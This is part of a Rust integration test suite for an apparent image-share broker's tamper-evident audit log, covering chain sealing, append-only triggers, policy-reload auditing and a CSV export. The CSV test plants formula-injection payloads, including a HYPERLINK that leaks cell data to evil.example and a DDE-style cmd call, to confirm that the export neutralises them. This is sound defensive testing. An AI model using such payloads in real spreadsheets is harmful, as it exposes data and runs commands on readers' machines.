    assert_eq!(revoke["owner_project_id"], env("PROJ_A_ID").as_str());
    assert_eq!(revoke["image_name"], "fake");
    let page = json_of(
        app.get(
            &app.auditor,
            &format!("/v1/projects/{}/access-history?limit=3", s.proj_b),
        )
        .send()
        .await
        .unwrap(),
    )
    .await;
    assert_eq!(page["items"].as_array().unwrap().len(), 3);
    assert!(page["next_cursor"].is_string());
    problem(
        app.get(&app.requester, &format!("/v1/images/{}/access", s.image))
            .send()
            .await
            .unwrap(),
        StatusCode::FORBIDDEN,
    )
    .await;
}

/// Records an event inside `tx`, as any change of the broker does.
async fn record_in(tx: &mut PgConnection, action: Action) -> Event {
    let initiator = Initiator::service("test");
    glance_share_broker::events::record(tx, "test-broker", NewEvent::attempt(&initiator, action))
        .await
        .unwrap()
}

async fn stored(app: &TestApp, seq: i64) -> Event {
    sqlx::query_as("select * from audit_events where seq = $1")
        .bind(seq)
        .fetch_one(&app.pool)
        .await
        .unwrap()
}

#[tokio::test]
async fn events_that_commit_out_of_seq_order_are_all_sealed_into_one_valid_chain() {
    let app = spawn_app().await;
    let mut early = app.pool.begin().await.unwrap();
    let first = record_in(&mut early, Action::Create).await;
    let mut late = app.pool.begin().await.unwrap();
    let second = record_in(&mut late, Action::Deny).await;
    assert!(first.seq < second.seq);
    late.commit().await.unwrap();
    assert!(db::audit::seal_all(&app.pool).await.unwrap());
    assert_eq!(stored(&app, second.seq).await.chain_pos, Some(SETUP + 1));

    // The lower seq commits after the higher one was sealed: it takes the next place.
    early.commit().await.unwrap();
    assert!(db::audit::seal_all(&app.pool).await.unwrap());
    let first = stored(&app, first.seq).await;
    assert_eq!(first.chain_pos, Some(SETUP + 2));
    assert_eq!(first.prev_hash, stored(&app, second.seq).await.hash);
    let report = verify(&app).await;
    assert_eq!(report["ok"], true, "{report}");
    assert_eq!(report["events_checked"], SETUP + 2);
    assert_eq!(report["head"]["chain_pos"], SETUP + 2);
    assert_eq!(report["unsealed_events"], 0);
    let listed = page(&app, &format!("?cursor={}", after_setup(&app).await)).await;
    let places: Vec<(i64, i64)> = listed["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| (e["chain_pos"].as_i64().unwrap(), e["seq"].as_i64().unwrap()))
        .collect();
    assert_eq!(
        places,
        [(SETUP + 1, second.seq), (SETUP + 2, first.seq)],
        "listed in chain order"
    );
}

/// Runs `sql` in a savepoint of `tx`: it must fail with a message containing `needle`.
async fn refused_in(tx: &mut sqlx::Transaction<'_, sqlx::Postgres>, sql: &str, needle: &str) {
    let mut savepoint = tx.begin().await.unwrap();
    refused(&mut savepoint, sql, needle).await;
    savepoint.rollback().await.unwrap();
}

/// Runs `sql` as the application's role in a savepoint of `tx`: it must be denied.
async fn denied_to_app(tx: &mut sqlx::Transaction<'_, sqlx::Postgres>, sql: &str) {
    let mut savepoint = tx.begin().await.unwrap();
    sqlx::query("set local role gsb_app")
        .execute(&mut *savepoint)
        .await
        .unwrap();
    refused(&mut savepoint, sql, "permission denied").await;
    savepoint.rollback().await.unwrap();
}

/// Seals event `seq` by hand with the right link, and with `extra` assignments.
fn seal_by_hand(seq: i64, extra: &str) -> String {
    format!(
        "with head as (select chain_pos, hash from audit_events where chain_pos is not null
                       order by chain_pos desc limit 1)
         update audit_events e set chain_pos = head.chain_pos + 1, prev_hash = head.hash,
             hash = sha256(head.hash || int8send(head.chain_pos + 1) || e.digest){extra}
         from head where e.seq = {seq}"
    )
}

#[tokio::test]
async fn the_seal_trigger_refuses_resealing_wrong_links_and_content_changes() {
    let app = spawn_app().await;
    app.file(&Uuid::new_v4().to_string(), &[PROJ_B]).await;
    assert!(db::audit::seal_all(&app.pool).await.unwrap());
    let sealed = events_from(&app, 1).await.remove(0);
    // Uncommitted, so no sealer sees it: it stays unsealed for the test.
    let mut tx = app.pool.begin().await.unwrap();
    let event = record_in(&mut tx, Action::Create).await;

    for change in [", reason = 'changed'", ", details = '{\"x\": 1}'", ", seq = 999"] {
        refused_in(&mut tx, &seal_by_hand(event.seq, change), "append-only").await;
    }
    let wrong_hash = format!(
        "update audit_events set chain_pos = 2, prev_hash = '\\x{}', hash = sha256('forged') where seq = {}",
        hex::encode(sealed.hash.as_ref().unwrap()),
        event.seq
    );
    refused_in(&mut tx, &wrong_hash, "wrong link").await;
    let wrong_prev = format!(
        "update audit_events set chain_pos = 2, prev_hash = sha256('forged'),
             hash = sha256(sha256('forged') || int8send(2::bigint) || digest) where seq = {}",
        event.seq
    );
    refused_in(&mut tx, &wrong_prev, "wrong link").await;
    let resealed = format!(
        "update audit_events set chain_pos = chain_pos, prev_hash = prev_hash, hash = hash where seq = {}",
        sealed.seq
    );
    refused_in(&mut tx, &resealed, "append-only").await;
    refused_in(
        &mut tx,
        &format!(
            "update audit_events set chain_pos = null, prev_hash = null, hash = null where seq = {}",
            sealed.seq
        ),
        "append-only",
    )
    .await;
    denied_to_app(&mut tx, &seal_by_hand(event.seq, "")).await;

    // Exactly the seal, and nothing else, passes; once.
    sqlx::query(&seal_by_hand(event.seq, ""))
        .execute(&mut *tx)
        .await
        .unwrap();
    refused_in(&mut tx, &seal_by_hand(event.seq, ""), "append-only").await;
    tx.commit().await.unwrap();
    assert_chain_holds(&app).await;
}

#[tokio::test]
async fn an_unsealed_event_is_still_protected_from_update_and_delete() {
    let app = spawn_app().await;
    let mut tx = app.pool.begin().await.unwrap();
    let event = record_in(&mut tx, Action::Create).await;
    let seq = event.seq;
    for sql in [
        format!("update audit_events set reason = 'changed' where seq = {seq}"),
        format!("update audit_events set digest = sha256('other') where seq = {seq}"),
        format!("delete from audit_events where seq = {seq}"),
    ] {
        refused_in(&mut tx, &sql, "append-only").await;
        denied_to_app(&mut tx, &sql).await;
    }
    tx.commit().await.unwrap();
    let kept = stored(&app, seq).await;
    assert_eq!(kept.reason, None);
    assert_chain_holds(&app).await;
}

#[tokio::test]
async fn concurrent_writers_and_two_sealers_keep_one_valid_chain() {
    let app = spawn_app().await;
    let (stop, stopped) = tokio::sync::watch::channel(false);
    let sealers: Vec<_> = (0..2)
        .map(|_| {
            let (pool, stopped) = (app.pool.clone(), stopped.clone());
            tokio::spawn(async move {
                while !*stopped.borrow() {
                    db::audit::seal(&pool, 3).await.unwrap();
                }
            })
        })
        .collect();
    file_at_once(&app, 30).await;
    stop.send(true).unwrap();
    for sealer in sealers {
        sealer.await.unwrap();
    }
    let report = verify(&app).await;
    assert_eq!(report["ok"], true, "{report}");
    assert_eq!(report["events_checked"], SETUP + 30);
    assert_eq!(report["head"]["chain_pos"], SETUP + 30);
    assert_eq!(report["unsealed_events"], 0);
}

/// An event as the broker wrote it before RFC 8785: digested in the legacy canonical form,
/// `age` ago.
pub(crate) fn legacy_event(age: chrono::Duration, details: Value) -> Event {
    Event {
        seq: 0,
        id: Uuid::now_v7(),
        occurred_at: chrono::Utc::now().trunc_subsecs(6) - age,
        action: "create".into(),
        outcome: "success".into(),
        initiator: json!({"kind": "service", "name": "test"}),
        target: json!({}),
        observer: "test-broker".into(),
        request_id: None,
        share_id: None,
        image_id: None,
        project_id: None,
        reason: None,
        correlation_id: None,
        details,
        digest_scheme: DigestScheme::Legacy.number(),
        chain_pos: None,
        prev_hash: None,
        hash: None,
    }
}

/// Inserts `event` as a writer of its time did (naming no digest scheme: the column's
/// default is the legacy one); returns its seq.
pub(crate) async fn insert_by_hand(db: impl sqlx::PgExecutor<'_>, event: &Event) -> i64 {
    sqlx::query_scalar(
        "insert into audit_events (id, occurred_at, action, outcome, initiator, target, observer, details, digest)
         values ($1, $2, $3, $4, $5, $6, $7, $8, $9) returning seq",
    )
    .bind(event.id)
    .bind(event.occurred_at)
    .bind(&event.action)
    .bind(&event.outcome)
    .bind(&event.initiator)
    .bind(&event.target)
    .bind(&event.observer)
    .bind(&event.details)
    .bind(&event.content_digest().unwrap()[..])
    .fetch_one(db)
    .await
    .unwrap()
}

#[tokio::test]
async fn an_event_digested_before_jcs_still_verifies_and_new_events_use_jcs() {
    let app = spawn_app().await;
    // `1.0` is where the two forms differ: legacy keeps it, JCS writes `1`.
    let legacy = legacy_event(chrono::Duration::seconds(1), json!({"ratio": 1.0}));
    let legacy_seq = insert_by_hand(&app.pool, &legacy).await;
    let mut tx = app.pool.begin().await.unwrap();
    let new = record_in(&mut tx, Action::Create).await;
    tx.commit().await.unwrap();

    let report = verify(&app).await;
    assert_eq!(report["ok"], true, "{report}");
    assert_eq!(
        stored(&app, legacy_seq).await.digest_scheme,
        DigestScheme::Legacy.number()
    );
    let new = stored(&app, new.seq).await;
    assert_eq!(new.digest_scheme, DigestScheme::Jcs.number());
    assert_eq!(new.hash, new.expected_hash());
}

#[tokio::test]
async fn verify_flags_an_event_left_unsealed_too_long() {
    let app = spawn_app().await;
    app.file(&Uuid::new_v4().to_string(), &[PROJ_B]).await;
    assert!(db::audit::seal_all(&app.pool).await.unwrap());
    // A stuck sealer: it holds the chain lock and seals nothing.
    let mut stuck = app.pool.begin().await.unwrap();
    sqlx::query("select pg_advisory_xact_lock(x'6175646974'::bigint)")
        .execute(&mut *stuck)
        .await
        .unwrap();
    let old = legacy_event(chrono::Duration::minutes(2), json!({}));
    let seq = insert_by_hand(&app.pool, &old).await;

    let report = verify(&app).await;
    assert_eq!(report["ok"], false, "{report}");
    assert_eq!(report["first_broken_link"], Value::Null);
    assert_eq!(report["unsealed_events"], 1);
    assert_eq!(report["stale_unsealed"]["seq"], seq);
    assert_eq!(report["stale_unsealed"]["id"], old.id.to_string());
    assert!(
        report["stale_unsealed"]["detail"]
            .as_str()
            .unwrap()
            .contains("unsealed"),
        "{report}"
    );
    assert_eq!(report["checkpoint_written"], Value::Null);

    // The sealer recovers: the event takes its place and the chain holds.
    stuck.rollback().await.unwrap();
    let report = verify(&app).await;
    assert_eq!(report["ok"], true, "{report}");
    assert_eq!(report["head"]["chain_pos"], SETUP + 2);
    assert_eq!(report["unsealed_events"], 0);
}

#[tokio::test]
async fn the_csv_export_neutralises_cells_a_spreadsheet_would_read_as_formulas() {
    let app = spawn_app().await;
    let reason = r#"=HYPERLINK("http://evil.example/?leak="&A1,"click here")"#;
    let mut body = request_body(&Uuid::new_v4().to_string(), &[PROJ_B]);
    body["reason"] = json!(reason);
    post_ok(&app, &app.requester, "/v1/share-requests", body).await;
    // A refused call: an approver may not file requests; the refusal records its User-Agent.
    // (HTTP trims a leading tab from a header: the unit test of `neutralised` covers tab and CR.)
    let agents = [
        r#"=HYPERLINK("http://evil.example","x")"#,
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+cmd",
        "-2+3",
    ];
    for agent in agents {
        let refused = app
            .post(&app.approver, "/v1/share-requests", &request_body(IMAGE, &[PROJ_B]))
            .header("user-agent", agent)
            .send()
            .await
            .unwrap();
        problem(refused, StatusCode::FORBIDDEN).await;
    }

    let (_, csv) = export(&app, "?format=csv", "*/*").await;
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let filed = rows
        .iter()
        .find(|r| &r[column("action")] == "create" && &r[column("outcome")] == "success");
    assert_eq!(&filed.unwrap()[column("reason")], format!("'{reason}"));
    let refused: Vec<&str> = rows
        .iter()
        .filter(|r| &r[column("outcome")] == "failure")
        .map(|r| &r[column("initiator_user_agent")])
        .collect();
    let expected: Vec<String> = agents.iter().map(|a| format!("'{a}")).collect();
    assert_eq!(refused, expected);
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet would run: {cell:?}"
            );
        }
    }
    // The other formats carry the text as it was written.
    let (_, ndjson) = export(&app, "?format=ndjson&outcome=failure", "*/*").await;
    let first: Value = serde_json::from_str(ndjson.lines().next().unwrap()).unwrap();
    assert_eq!(first["initiator"]["user_agent"], agents[0]);
}

/// The `update/policy` events so far: (outcome, reason, details), oldest first.
async fn policy_events(app: &TestApp) -> Vec<(String, Option<String>, Value)> {
    sqlx::query_as("select outcome, reason, details from audit_events where action = 'update/policy' order by seq")
        .fetch_all(&app.pool)
        .await
        .unwrap()
}

/// Waits until there are `count` `update/policy` events.
async fn until_policy_events(app: &TestApp, count: usize) -> Vec<(String, Option<String>, Value)> {
    for _ in 0..300 {
        let events = policy_events(app).await;
        if events.len() >= count {
            return events;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    panic!("no {count} policy events: {:?}", policy_events(app).await);
}

fn sha256_hex(text: &str) -> String {
    use sha2::Digest;
    hex::encode(sha2::Sha256::digest(text.as_bytes()))
}

#[tokio::test]
async fn each_policy_load_and_reload_is_audited_with_its_digest_and_rules_refusals_too() {
    use nix::sys::signal::{Signal, kill};
    use nix::unistd::Pid;

    let app = spawn_app().await;
    let dir = std::env::temp_dir().join(format!("gsb-policy-audit-{}", Uuid::new_v4()));
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join("policy.toml");
    let first = "[[rules]]\nname = \"first\"\ndecision = \"approve\"\n\n[[rules]]\nname = \"fallback\"\ndecision = \"require_approval\"";
    std::fs::write(&path, first).unwrap();
    let mut worker = Command::new(BIN)
        .args(["worker", "--idle-poll-ms", "100", "--instance", "policy-worker"])
        .env("DATABASE_URL", &app.database_url)
        .env("OS_CLOUD", "admin")
        .env("OS_CLIENT_CONFIG_FILE", env("OS_CLIENT_CONFIG_FILE"))
        .env("GSB_POLICY_FILE", &path)
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let hang_up = || kill(Pid::from_raw(worker.id() as i32), Signal::SIGHUP).unwrap();
    until_policy_events(&app, 1).await;

    let bad = "[[rules]]\nname = \"second\"\ndecision = \"deny\"\napprovals = 2";
    std::fs::write(&path, bad).unwrap();
    hang_up();
    until_policy_events(&app, 2).await;
    let good = "[[rules]]\nname = \"second\"\ndecision = \"deny\"";
    std::fs::write(&path, good).unwrap();
    hang_up();
    let events = until_policy_events(&app, 3).await;
    kill(Pid::from_raw(worker.id() as i32), Signal::SIGTERM).unwrap();
    assert!(worker.wait().unwrap().success());
    std::fs::remove_dir_all(&dir).unwrap();

    let path = path.display().to_string();
    assert_eq!(
        events[0],
        (
            "success".to_owned(),
            None,
            json!({"trigger": "start", "path": path, "digest": sha256_hex(first), "rules": ["first", "fallback"]})
        )
    );
    let (outcome, reason, details) = &events[1];
    assert_eq!(outcome, "failure");
    assert!(reason.as_deref().unwrap().contains("rules[0].approvals"), "{reason:?}");
    assert_eq!(
        details,
        &json!({"trigger": "reload", "path": path, "digest": sha256_hex(bad)})
    );
    assert_eq!(
        events[2],
        (
            "success".to_owned(),
            None,
            json!({"trigger": "reload", "path": path, "digest": sha256_hex(good), "rules": ["second"]})
        )
    );
    let (initiator, observer): (Value, String) =
        sqlx::query_as("select initiator, observer from audit_events where action = 'update/policy' limit 1")
            .fetch_one(&app.pool)
            .await
            .unwrap();
    assert_eq!(initiator, json!({"kind": "service", "name": "policy-file"}));
    assert_eq!(observer, "policy-worker");
    assert_chain_holds(&app).await;
}

#[tokio::test]
async fn the_verify_endpoint_checks_the_anchors_it_is_given() {
    let app = spawn_app().await;
    file_three(&app).await;
    let head = verify(&app).await["head"].clone();
    let anchor = format!("{}:{}", head["chain_pos"], head["hash"].as_str().unwrap());

    let held = json_of(
        app.get(&app.auditor, &format!("/v1/audit-events/verify?expect={anchor}"))
            .send()
            .await
            .unwrap(),
    )
    .await;
    assert_eq!(held["ok"], true, "{held}");
    assert_eq!(held["anchors_checked"], 1);
    assert_eq!(held["anchor_mismatch"], Value::Null);

    let wrong = format!("2:{}", "ab".repeat(32));
    let report = json_of(
        app.get(
            &app.auditor,
            &format!("/v1/audit-events/verify?expect={anchor},{wrong}"),
        )
        .send()
        .await
        .unwrap(),
    )
    .await;
    assert_eq!(report["ok"], false, "{report}");
    assert_eq!(report["anchors_checked"], 2);
    let mismatch = &report["anchor_mismatch"];
    assert_eq!(mismatch["expected"]["chain_pos"], 2);
    assert_eq!(mismatch["expected"]["hash"], "ab".repeat(32));
    assert_eq!(mismatch["stored_hash"].as_str().unwrap().len(), 64);
    assert!(mismatch["detail"].as_str().unwrap().contains("rewritten"), "{mismatch}");
    assert_eq!(
        report["checkpoint_written"],
        Value::Null,
        "no checkpoint of a failed check"
    );

    let bad = app
        .get(&app.auditor, "/v1/audit-events/verify?expect=2:xyz")
        .send()
        .await
        .unwrap();
    assert_eq!(
        crate::helpers::fields(&problem(bad, StatusCode::UNPROCESSABLE_ENTITY).await),
        ["expect"]
    );
}
